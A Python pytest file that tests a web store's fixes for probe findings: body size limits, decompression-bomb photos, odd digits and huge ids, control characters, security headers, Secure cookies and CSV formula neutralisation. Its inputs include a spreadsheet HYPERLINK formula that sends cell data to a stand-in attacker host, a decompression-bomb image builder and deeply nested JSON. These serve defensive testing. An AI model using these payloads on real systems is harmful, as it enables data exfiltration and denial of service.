"""What an outside probe of the store found (issue #19), each over HTTP as the probe sent it: bodies too
large to buffer, decompression-bomb photos, other scripts' digits and ids past 64 bits, control
characters in contacts, missing security headers, cookies without ``Secure`` on an HTTPS store, and
formulas in the CSV the seller opens. Every test failed on the code before the fix."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import struct
import zlib

import pytest
from fastapi.testclient import TestClient
from PIL import Image
from test_console import STORE, csrf_of, form_error, signed_in
from weishang_webstore.app import create_app

from weishang_core.config import load_settings

HUGE = "99999999999999999999"  # past 2**63 - 1, the largest id a database column holds


@pytest.fixture
def shop(store, monkeypatch):
    """老李's store with KIWI (¥100, L1=10%, L2=3%) on sale, 勤妹子 under 阿芳, one order of 張三's through 勤妹子."""
    monkeypatch.setenv("WEISHANG_HOME", str(store.home))
    monkeypatch.setenv("WEISHANG_DATABASE_URL", store.url)
    store("product", "add", "--sku", "KIWI", "--title", "紅心獼猴桃 5kg", "--price", "100.00", "--stock", "50",
          "--commission", "L1=10%,L2=3%")  # fmt: skip
    store("reseller", "add", "阿芳", "--sponsor", "老李")
    store("reseller", "add", "勤妹子", "--sponsor", "阿芳")
    store("account", "add", "webstore", "--name", "shop")
    store("distribute", "KIWI")
    code = store.json("link", "create", "--reseller", "勤妹子", "--sku", "KIWI")["code"]
    store("order", "create", "--sku", "KIWI", "--qty", "2", "--buyer", "張三", "--ref", code)
    app = create_app(load_settings(store.url))
    yield store, app
    app.state.clicks.close()


def call_asgi(app, method: str, path: str, headers: dict[str, str], chunks: list[bytes]) -> tuple[int, dict, int]:
    """Send a request to the ASGI app chunk by chunk; its status, body and how many chunks it read."""
    pulled, answer = 0, {"body": b""}

    async def receive():
        nonlocal pulled
        if pulled < len(chunks):
            pulled += 1
            return {"type": "http.request", "body": chunks[pulled - 1], "more_body": pulled < len(chunks)}
        return {"type": "http.disconnect"}

    async def send(message):
        if message["type"] == "http.response.start":
            answer["status"] = message["status"]
        elif message["type"] == "http.response.body":
            answer["body"] += message.get("body", b"")

    scope = {
        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": method, "scheme": "http",
        "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
        "headers": [(k.lower().encode(), v.encode()) for k, v in headers.items()],
        "client": ("198.51.100.1", 5000), "server": ("testserver", 80), "state": {},
    }  # fmt: skip
    asyncio.run(app(scope, receive, send))
    return answer["status"], json.loads(answer["body"]), pulled


def order(padding: int = 0, **buyer: str) -> bytes:
    """A valid order as JSON, padded with spaces (still valid JSON) to make it as large as wanted."""
    body = {"sku": "KIWI", "qty": 1, "buyer": {"name": "王五", **buyer}}
    return json.dumps(body, ensure_ascii=False).encode()[:-1] + b" " * padding + b"}"


def test_a_json_body_past_its_limit_is_refused_before_it_is_read(shop) -> None:
    store, app = shop
    client = TestClient(app)
    assert (
        client.post("/api/orders", content=order(60_000), headers={"content-type": "application/json"}).status_code
        == 201
    )
    too_large = client.post("/api/orders", content=order(70_000), headers={"content-type": "application/json"})
    assert too_large.status_code == 413
    assert too_large.json() == {"error": "request: the body is larger than the limit of 64 KB (65536 bytes)"}
    form = client.post("/buy", data={"sku": "KIWI", "name": "x" * 70_000, "key": "k" * 8})  # a form is no upload
    assert form.status_code == 413
    # 8 MB declared: answered from the headers, not one chunk read
    declared = {"content-type": "application/json", "content-length": str(8 * 1024 * 1024)}
    status, _, pulled = call_asgi(app, "POST", "/api/orders", declared, [b" " * 65536] * 128)
    assert (status, pulled) == (413, 0)
    # the same without Content-Length (chunked): counted as it comes, refused at the first chunk past 64 KB
    status, body, pulled = call_asgi(app, "POST", "/api/orders", {"content-type": "application/json"},
                                     [b" " * 16384] * 512)  # fmt: skip
    assert (status, pulled) == (413, 5) and "64 KB" in body["error"]
    assert [o["buyer"] for o in store.json("order", "list")] == ["張三", "王五"]  # nothing but the first order


def test_limits_are_settings(shop, monkeypatch) -> None:
    store, _ = shop
    monkeypatch.setenv("WEISHANG_MAX_JSON_BYTES", "2048")
    monkeypatch.setenv("WEISHANG_MAX_UPLOAD_BYTES", str(2 * 1024 * 1024))
    app = create_app(load_settings(store.url))
    try:
        client = TestClient(app)
        refused = client.post("/api/orders", content=order(3000), headers={"content-type": "application/json"})
        assert refused.status_code == 413 and refused.json()["error"].endswith("limit of 2 KB (2048 bytes)")
        seller = signed_in(store, app)
        form = {"csrf": csrf_of(seller.get("/console/products/new").text), "sku": "PEAR", "title": "梨",
                "price": "9.90"}  # fmt: skip
        photo = ("pear.jpg", b"\xff\xd8\xff" + b"\0" * (3 * 1024 * 1024), "image/jpeg")
        upload = seller.post("/console/products/new", data=form, files={"photo": photo})
        assert upload.status_code == 413 and "2 MB (2097152 bytes)" in upload.json()["error"]
    finally:
        app.state.clicks.close()
    monkeypatch.setenv("WEISHANG_MAX_JSON_BYTES", "６４")  # fullwidth digits are not a number here
    assert "WEISHANG_MAX_JSON_BYTES: '６４' must be a number of bytes" in store.fails("order", "list")


def test_a_console_upload_past_10_mb_is_refused(shop) -> None:
    store, app = shop
    seller = signed_in(store, app)
    form = {"csrf": csrf_of(seller.get("/console/products/new").text), "sku": "PEAR", "title": "梨", "price": "9.90"}
    photo = ("pear.jpg", b"\xff\xd8\xff" + b"\0" * (11 * 1024 * 1024), "image/jpeg")
    upload = seller.post("/console/products/new", data=form, files={"photo": photo})
    assert upload.status_code == 413 and "10 MB (10485760 bytes)" in upload.json()["error"]
    assert "no product" in store.fails("product", "show", "PEAR")


def bomb_png(width: int, height: int) -> bytes:
    """A few hundred bytes whose header claims ``width`` × ``height`` pixels (a decompression bomb)."""
    buffer = io.BytesIO()
    Image.new("L", (8, 8)).save(buffer, format="PNG")
    data = bytearray(buffer.getvalue())
    data[16:24] = struct.pack(">II", width, height)  # IHDR's width and height, then its checksum
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def test_a_decompression_bomb_photo_is_refused_not_a_500(shop) -> None:
    store, app = shop
    seller = signed_in(store, app)
    form = {"csrf": csrf_of(seller.get("/console/products/new").text), "sku": "PEAR", "title": "梨", "price": "9.90"}
    for side in (10_000, 30_000):  # past Pillow's warning, and past the limit where Pillow raises
        bomb = seller.post("/console/products/new", data=form, files={"photo": ("bomb.png", bomb_png(side, side))})
        assert bomb.status_code == 400
        assert form_error(bomb.text) == "photo: 'bomb.png': too large a picture (more than 60,000,000 pixels)"
    assert "no product" in store.fails("product", "show", "PEAR")


def test_other_scripts_digits_and_ids_past_64_bits_are_4xx(shop) -> None:
    store, app = shop
    store("campaign", "create", "--sku", "KIWI", "--target", "10.00", "--deadline", "2099-01-01T00:00:00+08:00")
    seller = signed_in(store, app)
    csrf = csrf_of(seller.get("/console/products/new").text)
    for path in (f"/console/orders/{HUGE}", "/console/orders/²", "/console/orders/١", f"/console/posts?ids={HUGE}",
                 "/console/posts?ids=1,²", f"/console/api/posts?ids={HUGE}", "/console/api/posts?ids=١"):  # fmt: skip
        answer = seller.get(path)
        assert 400 <= answer.status_code < 500, (path, answer.status_code)
    for path, data in (
        (f"/console/orders/{HUGE}/status", {"action": "pay"}),
        (f"/console/orders/{HUGE}/refund", {"amount": "1.00"}),
        (f"/console/campaigns/{HUGE}/close", {}),
        ("/console/campaigns", {"sku": "KIWI", "target": "10.00", "max_qty": "²"}),
        ("/console/outlets/new", {"channel": "webstore", "name": "shop2", "daily_cap": "١٠"}),
    ):
        answer = seller.post(path, data={"csrf": csrf, **data})
        assert 400 <= answer.status_code < 500, (path, answer.status_code)
    price = seller.post("/console/products/new", data={"csrf": csrf, "sku": "PEAR", "title": "梨", "price": "٣٩.٩٠"})
    assert (
        price.status_code == 400 and form_error(price.text) == "price: '٣٩.٩٠' is not an amount in yuan such as 39.90"
    )
    assert [a["name"] for a in store.json("account", "list")] == ["shop"]
    reseller = TestClient(app)
    reseller.get(store("store", "magic-link", "勤妹子").stdout.strip().removeprefix(STORE))
    for ids in ("²", "١", HUGE):
        answer = reseller.get(f"/api/me/posts?ids={ids}")
        assert answer.status_code == 400 and answer.json()["error"].startswith("ids: "), ids


def test_control_characters_in_a_contact_are_refused_naming_the_field(shop) -> None:
    store, app = shop
    client = TestClient(app)
    for contact in ("138\x1b[2J0000", "wx-\u202eevil", "line\nbreak"):
        refused = client.post(
            "/api/orders", content=order(contact=contact), headers={"content-type": "application/json"}
        )
        assert refused.status_code == 400
        assert refused.json()["error"].startswith("buyer.contact: contains a control or invisible character")
    named = client.post("/api/orders", json={"sku": "KIWI", "buyer": {"name": "王\x07五"}})
    assert named.status_code == 400 and named.json()["error"].startswith("buyer.name:")
    assert len(store.json("order", "list")) == 1


def test_security_headers_on_every_answer(shop) -> None:
    store, app = shop
    code = store.json("link", "create", "--reseller", "勤妹子", "--sku", "KIWI")["code"]
    client = TestClient(app)
    answers = {
        "landing": client.get(f"/r/{code}", follow_redirects=False),
        "product": client.get("/p/KIWI"),
        "health": client.get("/healthz"),
        "refusal": client.post("/api/orders", json={"sku": "KIWI"}),
        "too large": client.post("/api/orders", content=b" " * 70_000),
        "console": client.get("/console/login"),
        "console redirect": client.get("/console/orders", follow_redirects=False),
    }
    for name, answer in answers.items():
        assert answer.headers.get("x-content-type-options") == "nosniff", name
        assert answer.headers.get("referrer-policy") == "same-origin", name
    for name in ("console", "console redirect"):
        assert answers[name].headers["x-frame-options"] == "DENY"
        assert answers[name].headers["content-security-policy"] == "frame-ancestors 'none'"


def test_cookies_are_secure_when_the_store_is_https(shop, monkeypatch) -> None:
    store, app = shop
    code = store.json("link", "create", "--reseller", "勤妹子", "--sku", "KIWI")["code"]
    assert "; secure" not in TestClient(app).get(f"/r/{code}", follow_redirects=False).headers["set-cookie"].lower()
    monkeypatch.setenv("WEISHANG_STORE_URL", "https://shop.example.com")
    secure = create_app(load_settings(store.url))
    try:
        client = TestClient(secure, base_url="https://shop.example.com")
        cookies = {
            "visitor (landing)": client.get(f"/r/{code}", follow_redirects=False),
            "visitor (page)": client.get("/p/KIWI"),
            "reseller session": client.get(
                store("store", "magic-link", "勤妹子").stdout.strip().removeprefix("https://shop.example.com"),
                follow_redirects=False,
            ),
            "console session": client.get(
                store("console-link").stdout.strip().removeprefix("https://shop.example.com"), follow_redirects=False
            ),
        }
        csrf = csrf_of(client.get("/console/products/new").text)
        cookies["console sign-out"] = client.post("/console/signout", data={"csrf": csrf}, follow_redirects=False)
        for name, answer in cookies.items():
            assert "; secure" in answer.headers["set-cookie"].lower(), name
    finally:
        secure.state.clicks.close()


def test_the_payouts_csv_neutralises_formulas_people_typed(shop) -> None:
    store, app = shop
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
    store("reseller", "add", hostile, "--sponsor", "老李", "--phone", "+8613800000000")
    ref = store.json("link", "create", "--reseller", hostile)["code"]
    store("order", "create", "--sku", "KIWI", "--qty", "1", "--buyer", "@SUM(1+1)", "--ref", ref)
    store("order", "create", "--sku", "KIWI", "--qty", "1", "--buyer", hostile)  # her own: earns nothing
    for number in ("1", "2", "3"):  # 1 is 張三's, through 勤妹子
        store("order", "pay", number, "--now", "2026-01-01T10:00:00+08:00")
        store("order", "deliver", number, "--now", "2026-01-02T10:00:00+08:00")
    store("settle", "--now", "2026-03-01T00:00:00+08:00")
    store("payouts", "run", "--min", "1.00")
    seller = signed_in(store, app)
    rows = {r["beneficiary"]: r for r in csv.DictReader(io.StringIO(seller.get("/console/money/payouts.csv").text))}
    mine = rows["'" + hostile]
    assert (mine["contact"], mine["amount"]) == ("'+8613800000000", "10.00")  # the amount is ours: a number
    assert mine["reference"] == f"manual transfer of 10.00 to {hostile} (+86 138****0000)"  # no formula at its start
    assert rows["勤妹子"]["beneficiary"] == "勤妹子" and rows["勤妹子"]["amount"] == "20.00"  # plain text unchanged
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())


def test_a_quantity_must_be_a_json_number_and_bad_json_is_named_as_the_body(shop) -> None:
    """Probe findings (issue #19): ``"qty": true`` and ``"qty": "2"`` were taken; bad JSON named no field."""
    _, app = shop
    client = TestClient(app)
    for qty in (True, "2"):
        answer = client.post("/api/orders", json={"sku": "KIWI", "qty": qty, "buyer": {"name": "a"}})
        assert answer.status_code == 422 and answer.json()["error"].startswith("qty: "), answer.text
    as_json = {"content-type": "application/json"}
    broken = client.post("/api/orders", content=b'{"sku": "KIWI", "qty": ', headers=as_json)
    assert broken.status_code == 422 and broken.json()["error"].startswith("body: not valid JSON")
    nested = b'{"sku": ' + b"[" * 5000 + b"]" * 5000 + b"}"
    deep = client.post("/api/orders", content=nested, headers=as_json)
    assert deep.status_code == 400 and deep.json()["error"].startswith("body: could not be read"), deep.text
